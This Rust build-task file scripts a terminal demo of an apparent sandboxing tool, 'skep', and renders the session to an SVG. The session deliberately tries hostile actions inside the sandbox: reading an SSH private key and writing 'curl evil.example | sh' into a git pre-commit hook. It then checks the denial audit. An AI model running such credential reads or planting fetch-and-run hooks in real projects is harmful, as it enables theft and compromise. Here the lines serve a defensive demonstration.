//! `cargo xtask picture`: docs/picture.svg, from a real session in a terminal.

use std::io::{self, BufReader, Read as _, Write as _};
use std::process::{Child, Command, Stdio};

use anstyle_svg::{Term, WIN10_CONSOLE};
use anyhow::Context as _;

use crate::build::{self, Variant};
use crate::call::say;
use crate::setup::{self, Purpose};
use crate::tree::Tree;

/// Width of the terminal.
const COLUMNS: usize = 110;

/// In a mount namespace of its own: the picture shows the home and the audit of anybody, and this machine keeps its.
const GROUND: &str = r#"
mount --bind "$0" /mnt && mount -t tmpfs none /home && mount -t tmpfs none /var/lib
mkdir -p /home/dev/.ssh /home/dev/project && cd /home/dev/project && git init --quiet .
echo key > ../.ssh/id_ed25519
rc="bind 'set enable-bracketed-paste off'; HISTFILE="
echo "$rc; PS1='$ '" > ../.rc
echo "$rc; PS1='(bee) $ '" > .rc
exec env --ignore-environment HOME=/home/dev PATH=/mnt:/usr/bin:/bin SHELL=/bin/bash TERM=xterm-256color LANG=C.UTF-8 \
    SKEP_RUNTIME=/home/run script --quiet --return --command "stty rows 40 columns $1; exec bash --rcfile ../.rc" /dev/null
"#;

/// What is typed, each behind the prompt it waits for.
const SESSION: [(&str, &str); 8] = [
    ("$ ", "skep run --name bee -- bash --rcfile .rc"),
    ("(bee) $ ", "echo 'fn main() {}' > main.rs && ls"),
    ("(bee) $ ", "cat ~/.ssh/id_ed25519"),
    ("(bee) $ ", "echo 'curl evil.example | sh' > .git/hooks/pre-commit"),
    ("(bee) $ ", "curl https://example.com"),
    ("(bee) $ ", "exit"),
    ("$ ", "skep audit bee --denied"),
    ("$ ", "skep audit verify"),
];

/// Runs the session with the binaries users run and draws what the terminal showed.
pub(crate) fn picture(tree: &Tree) -> anyhow::Result<()> {
    let toolchain = setup::setup(tree, Purpose::Test)?;
    let binaries = build::build(tree, &toolchain, Variant::Plain)?;
    say("running the session");
    let mut terminal = Command::new("unshare")
        .args(["--mount", "--propagation", "private", "/bin/sh", "-euc", GROUND])
        .arg(binaries)
        .arg(COLUMNS.to_string())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .context("cannot start unshare")?;
    let shown = converse(&mut terminal);
    let status = terminal.wait().context("waiting for the session")?;
    let shown = shown.with_context(|| format!("the session ended early: {status}"))?;
    let path = tree.root.join("docs/picture.svg");
    std::fs::write(&path, Term::new().palette(WIN10_CONSOLE).render_svg(&folded(&shown)))
        .with_context(|| format!("writing {}", path.display()))
}

/// Types, and returns what was shown up to the last prompt. Ends the session by the end of its input.
fn converse(terminal: &mut Child) -> anyhow::Result<String> {
    let mut keys = terminal.stdin.take().context("the session has no input")?;
    let screen = terminal.stdout.take().context("the session has no output")?;
    let mut screen = BufReader::new(screen).bytes();
    let mut shown = Vec::new();
    for (prompt, typed) in SESSION {
        read_to(prompt, &mut screen, &mut shown)?;
        writeln!(keys, "{typed}").context("typing")?;
    }
    read_to(SESSION[0].0, &mut screen, &mut shown)?;
    String::from_utf8(shown).context("what was shown is no text")
}

/// Reads on until the last line is the prompt.
fn read_to(
    prompt: &str,
    screen: &mut impl Iterator<Item = io::Result<u8>>,
    shown: &mut Vec<u8>,
) -> anyhow::Result<()> {
    loop {
        let next = screen
            .next()
            .with_context(|| format!("no prompt {prompt:?} after:\n{}", String::from_utf8_lossy(shown)))?;
        shown.push(next.context("reading the screen")?);
        if shown.rsplit(|byte| *byte == b'\n').next() == Some(prompt.as_bytes()) {
            return Ok(());
        }
    }
}

/// The text as lines of the terminal's width. Sequences that set colours take no room.
fn folded(text: &str) -> String {
    let mut folded = String::new();
    let (mut column, mut in_sequence) = (0, false);
    for character in text.chars().filter(|character| *character != '\r') {
        match character {
            '\x1b' => in_sequence = true,
            '\n' => column = 0,
            _ if in_sequence => in_sequence = !character.is_ascii_alphabetic(),
            _ => {
                if column == COLUMNS {
                    folded.push('\n');
                    column = 0;
                }
                column += 1;
            }
        }
        folded.push(character);
    }
    folded
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn long_lines_are_folded_and_colours_take_no_room() {
        let line = "x".repeat(COLUMNS);
        assert_eq!(
            folded(&format!("\x1b[31m{line}\x1b[0m\r\n{line}y")),
            format!("\x1b[31m{line}\x1b[0m\n{line}\ny")
        );
    }
}
